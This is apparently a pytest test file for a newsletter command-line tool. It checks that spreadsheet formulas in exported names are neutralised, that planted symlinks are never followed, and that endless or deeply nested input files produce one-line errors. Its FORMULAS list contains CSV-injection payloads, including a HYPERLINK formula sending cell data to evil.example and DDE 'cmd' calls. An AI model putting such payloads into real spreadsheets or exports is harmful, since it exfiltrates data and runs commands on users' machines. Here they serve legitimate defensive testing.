"""Files that fight back (issue 14.6), through the real CLI: formulas in exported names are
neutralised, written files never follow a planted symlink, and bad paths, endless inputs and
malformed content files end in one line naming the file and the reason, never a traceback."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from newsletter.content.importer import sample_files
from tests.cli_runner import run_cli
from tests.conftest import write_config

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0"]


@pytest.fixture
def cli(tmp_path):
    config = write_config(tmp_path)

    def run(*args: str, ok: bool = True) -> subprocess.CompletedProcess:
        # The console script's entry point in this process (tests/cli_runner.py); the last test
        # here runs real processes.
        result = run_cli(["--config", str(config), *args], tmp_path, dict(os.environ))
        assert "Traceback" not in result.stderr + result.stdout, result.stderr
        if ok:
            assert result.returncode == 0, result.stderr
        return result

    run("db", "upgrade")
    return run


def one_line_error(result: subprocess.CompletedProcess, *names: str) -> str:
    """Exit status 1 and a single 'error: …' line that names each of `names`."""
    assert result.returncode == 1, (result.returncode, result.stdout, result.stderr)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
    for name in names:
        assert name in lines[0], (name, lines[0])
    return lines[0]


def test_export_neutralises_spreadsheet_formulas(cli, tmp_path):
    people = tmp_path / "people.csv"
    with people.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["email", "name"])
        for n, name in enumerate(FORMULAS):
            writer.writerow([f"reader{n}@example.com", name])
        writer.writerow(["plain@example.com", "Jane Doe-Smith"])
    cli("subscribers", "import", str(people))
    names = {row["email"]: row["name"] for row in csv.DictReader(io.StringIO(cli("subscribers", "export").stdout))}
    assert [names[f"reader{n}@example.com"] for n in range(len(FORMULAS))] == ["'" + f for f in FORMULAS]
    assert names["plain@example.com"] == "Jane Doe-Smith"
    as_json = json.loads(cli("subscribers", "export", "--format", "json").stdout)  # JSON is data, left alone
    assert {row["name"] for row in as_json} == set(FORMULAS) | {"Jane Doe-Smith"}


def test_written_files_replace_a_planted_symlink_and_never_follow_it(cli, tmp_path):
    for path in sample_files():
        cli("content", "import", str(path))
    cli("issue", "draft", "--week", "2026-W48")
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    out = tmp_path / "preview"
    out.mkdir()
    planted = [out / "issue-1.html", out / "issue-1.txt", out / "issue-1.eml", tmp_path / "report.html",
               tmp_path / "export.csv"]
    for link in planted:
        link.symlink_to(victim)
    cli("issue", "preview", "1", "--out", str(out))
    cli("stats", "--html", str(tmp_path / "report.html"))
    cli("subscribers", "export", "--output", str(tmp_path / "export.csv"))
    assert victim.read_text() == "precious\n"
    for path in planted:
        assert not path.is_symlink() and path.stat().st_size > 0, path
    assert "<html" in (out / "issue-1.html").read_text().lower()
    assert not [p for p in tmp_path.rglob(".*.tmp")]  # no temporary file left behind


def test_bad_paths_and_endless_inputs_get_one_line(cli, tmp_path):
    zero = tmp_path / "zero.json"
    zero.symlink_to("/dev/zero")
    one_line_error(cli("content", "import", str(zero), ok=False), str(zero), "endless")
    one_line_error(cli("subscribers", "import", "/dev/zero", ok=False), "/dev/zero", "endless")
    one_line_error(cli("content", "import", str(tmp_path / "missing.json"), ok=False), "missing.json",
                   "No such file")
    one_line_error(cli("subscribers", "import", str(tmp_path), ok=False), str(tmp_path), "directory")
    for path in sample_files():
        cli("content", "import", str(path))
    cli("issue", "draft", "--week", "2026-W48")
    one_line_error(cli("issue", "edit", "1", "--intro-file", "/dev/zero", ok=False), "/dev/zero", "endless")
    one_line_error(cli("issue", "preview", "1", "--out", "/dev/null/preview", ok=False), "/dev/null/preview")
    one_line_error(cli("stats", "--html", str(tmp_path / "no" / "such" / "r.html"), ok=False), "r.html",
                   "cannot write")
    one_line_error(cli("subscribers", "export", "--output", str(tmp_path), ok=False), str(tmp_path))


MALFORMED = {
    "deep.json": ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
    "deep-object.json": ('{"a":' * 100_000 + "1" + "}" * 100_000, "nested too deeply"),
    "infinite.json": ('{"slug": "x", "n": 1e999999}', "out of range"),
    "digits.json": ('{"slug": "x", "n": ' + "9" * 100_000 + "}", "digits"),
    "nan.json": ('{"slug": "x", "n": NaN}', "not a number"),
    "deep.toml": ("a = " + "[" * 100_000 + "]" * 100_000 + "\n", "nested too deeply"),
    "deep-table.toml": ("a = " + "{b = " * 100_000 + "1" + "}" * 100_000 + "\n", "nested too deeply"),
    "infinite.toml": ("[[comparison]]\nslug = \"x\"\nn = inf\n", "out of range"),
    "digits.toml": ("n = " + "9" * 100_000 + "\n", "digits"),
}


@pytest.mark.parametrize("name", sorted(MALFORMED))
def test_malformed_content_files_get_the_same_clear_error(cli, tmp_path, name):
    text, reason = MALFORMED[name]
    path = tmp_path / name
    path.write_text(text)
    line = one_line_error(cli("content", "import", str(path), ok=False), str(path), "not valid", reason)
    assert len(line) < 400


def test_the_read_limit_is_not_a_limit_on_real_files(cli, tmp_path):
    """The sample content and a 5,000-reader list read and import as before."""
    for path in sample_files():
        assert cli("content", "import", str(path)).returncode == 0
    people = tmp_path / "many.csv"
    people.write_text("email,name\n" + "".join(f"r{n}@example.com,Reader {n}\n" for n in range(5000)))
    assert "5000 new" in cli("subscribers", "import", str(people)).stdout
    assert os.path.getsize(people) > 100_000


def test_an_endless_or_deep_config_file_gets_one_line(tmp_path):
    deep = tmp_path / "deep.toml"
    deep.write_text("a = " + "[" * 100_000 + "]" * 100_000 + "\n")
    for config, reason in [("/dev/zero", "endless"), (str(tmp_path), "directory"), (str(deep), "nested too deeply"),
                           (str(tmp_path / "none.toml"), "does not exist")]:
        result = subprocess.run([sys.executable, "-m", "newsletter", "--config", config, "db", "current"],
                                capture_output=True, text=True, timeout=120)
        assert "Traceback" not in result.stderr
        one_line_error(result, config, reason)
